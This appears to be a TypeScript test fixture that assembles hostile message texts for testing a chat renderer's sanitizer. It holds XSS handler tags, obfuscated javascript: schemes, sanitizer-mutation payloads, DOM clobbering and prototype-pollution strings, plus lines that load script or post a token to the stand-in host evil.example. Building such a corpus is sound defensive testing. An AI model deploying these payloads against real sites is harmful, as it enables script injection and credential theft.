/**
 * Texts that have run scripts somewhere, made from the public cheat sheets' building blocks: what each of them does when it runs is
 * to call `window.hit()`, and to ask `evil.example` for something.
 *
 * The blocks are those of the OWASP and PortSwigger cheat sheets, html5sec and the known ways round sanitizers.
 */

const RUN = 'hit(1)';
const EVIL = 'https://evil.example';

const tags = [
  'img',
  'svg',
  'video',
  'audio',
  'body',
  'iframe',
  'input',
  'details open',
  'select',
  'textarea',
  'button',
  'marquee',
  'object',
  'embed',
  'link rel=stylesheet',
  'style',
  'math',
  'form',
  'a href=x',
  'dialog open',
  'custom-element',
  'ivs-chat',
];

const handlers = [
  'src=x onerror',
  'onload',
  'autofocus onfocus',
  'ontoggle',
  'onpointerover',
  'style=animation-name:x onanimationstart',
  'tabindex=1 onfocusin',
  'onscrollend',
];

const handlerTags = tags.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler}=${RUN}>`));

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\tjavascript:',
  'java\nscript:',
  'java\tscript:',
  'java\0script:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'javascript\\x3a',
  '%6Aavascript:',
  'vbscript:',
  'livescript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=,',
  'data:image/svg+xml,<svg onload=',
  'blob:',
  'filesystem:',
  'view-source:',
];

const places = [
  (url: string) => url,
  (url: string) => `[click](${url})`,
  (url: string) => `<a href="${url}">click</a>`,
  (url: string) => `<iframe src='${url}'>`,
  (url: string) => `https://fine.example/"href="${url}`,
  (url: string) => `<svg><a xlink:href=${url}><text>x</text></a></svg>`,
];

const schemeTexts = schemes.flatMap((scheme) => places.map((place) => place(`${scheme}${RUN}`)));

const ends = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '-->',
  '--!>',
  ']]>',
  '*/',
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</svg>',
  '\\"',
  '\0">',
  '${',
  '{{',
];

const tails = [
  `<script>${RUN}</script>`,
  `<script src=${EVIL}/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  ` onmouseover=${RUN} x=`,
  `<svg/onload=${RUN}>`,
  `;${RUN};//`,
];

const breakouts = ends.flatMap((end) => tails.map((tail) => `${end}${tail}`));

/** Ways in which a sanitizer and a parser have disagreed. */
const mutations = [
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<table><td><style><!--</style><script>${RUN}</script>-->`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img id=x onerror=${RUN} src=x>">`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></foreignObject></svg>`,
  `<svg><animate xlink:href=#x attributeName=href values=javascript:${RUN} /><a id=x><text>x</text></a>`,
  `<svg><set attributeName=onmouseover to=${RUN}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=${RUN} /></svg>#x"></use>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<div><template shadowrootmode=open><slot onslotchange=${RUN}></slot></template>x</div>`,
  `<xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<title><img title="</title><img src=x onerror=${RUN}>"></title>`,
  `<a href="x" is="x-y" onclick=${RUN} autofocus>`,
  `<input type=hidden oncontentvisibilityautostatechange=${RUN} style=content-visibility:auto>`,
  `<button popovertarget=x>y</button><xss id=x popover onbeforetoggle=${RUN}>z</xss>`,
];

/** What changes the page without a script: its base, its forms, its names, its looks. */
const pageChanges = [
  `<base href=${EVIL}/>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<form action=${EVIL}><input name=token><button>Sign in again</button></form>`,
  `<link rel=stylesheet href=${EVIL}/x.css>`,
  `<link rel=prefetch href=${EVIL}/x>`,
  `<img srcset="${EVIL}/x.png 1x">`,
  `<picture><source srcset=${EVIL}/x.png><img></picture>`,
  `<video poster=${EVIL}/x.png>`,
  `<audio src=${EVIL}/x.mp3 autoplay>`,
  `<object data=${EVIL}/x.swf>`,
  `<a id=attributes><a id=attributes name=length>`,
  `<form id=document><input name=cookie>`,
  `<img name=getElementById>`,
  `<iframe name=customElements>`,
  `<style>*{position:fixed;inset:0;background:url(${EVIL}/x.png)}</style>`,
  `<style>@import '${EVIL}/x.css';</style>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:red">`,
  `red;background:url(${EVIL}/x.png)`,
  `#fff;}*{position:fixed;background:url(${EVIL}/x.png)}`,
  `#ffffff url(${EVIL}/x.png)`,
  `url(javascript:${RUN})`,
  `expression(${RUN})`,
  `var(--x,url(${EVIL}/x.png))`,
  `image-set("${EVIL}/x.png" 1x)`,
  `attr(x type(<url>))`,
  `//evil.example/x.png`,
  `${EVIL}/x.png`,
  `https:evil.example/x.png`,
  `\\\\evil.example\\x.png`,
  `https://user:secret@evil.example/`,
  `https://evil.example\u2044fine.example/`,
  `file:///etc/passwd`,
];

/** What means something to templates, to JavaScript's objects and to JSON. */
const machinery = [
  '<!--?lit$1234567890$-->',
  '<?lit$1234567890$>',
  'lit$1234567890$0',
  '{{constructor.constructor("hit(1)")()}}',
  '${hit(1)}',
  '#{hit(1)}',
  '<%= hit(1) %>',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '{"__proto__":{"polluted":true}}',
  '[object Object]',
  'null',
  'undefined',
  'NaN',
  '{"_$litType$":1,"strings":["<img src=x onerror=hit(1)>"],"values":[]}',
  '{"_$litDirective$":1,"values":["<img src=x onerror=hit(1)>"]}',
  '["<script>hit(1)</script>"]',
  "');hit(1);//",
  '\\u003cscript\\u003ehit(1)\\u003c/script\\u003e',
  '%3Cscript%3Ehit(1)%3C/script%3E',
  '%253Cscript%253Ehit(1)%253C/script%253E',
  '&lt;script&gt;hit(1)&lt;/script&gt;',
  '+ADw-script+AD4-hit(1)+ADw-/script+AD4-',
  '＜script＞hit(1)＜/script＞',
  '\u0000<script>hit(1)</script>',
  '<scr\u0000ipt>hit(1)</script>',
];

/** What does not run and gets in the way all the same: direction, height, width, glyphs without end. */
const nuisances = [
  '\u202Eevil\u202C',
  '\u202E'.repeat(200),
  '\u2066\u2067\u2068'.repeat(80),
  '\u200F'.repeat(300),
  'W'.repeat(480),
  'ﷺ'.repeat(200),
  '𒐫'.repeat(100),
  '\u00A0'.repeat(400),
  '\n'.repeat(400),
  'x\n'.repeat(240),
  '\u2028'.repeat(300),
  '👩‍👩‍👧‍👦'.repeat(40),
  '🏴'.repeat(100),
  '\uD83D',
  '\uDC00\uD800',
  '\u200B'.repeat(400),
  'a\u0300'.repeat(200),
  '\u0007\u001B[31mred',
  'https://' + 'a'.repeat(470),
  '@'.repeat(400),
  ':a'.repeat(200) + ':',
  '*_`'.repeat(130),
  'Z\u0351\u0352\u0353'.repeat(80),
  `Z${'\u0351\u036F\u0489'.repeat(150)}`,
];

/** All of them, each once: none is longer than a message may be. */
export const hostileTexts: readonly string[] = [
  ...new Set([...handlerTags, ...schemeTexts, ...breakouts, ...mutations, ...pageChanges, ...machinery, ...nuisances]),
].filter((text) => text.length <= 500);
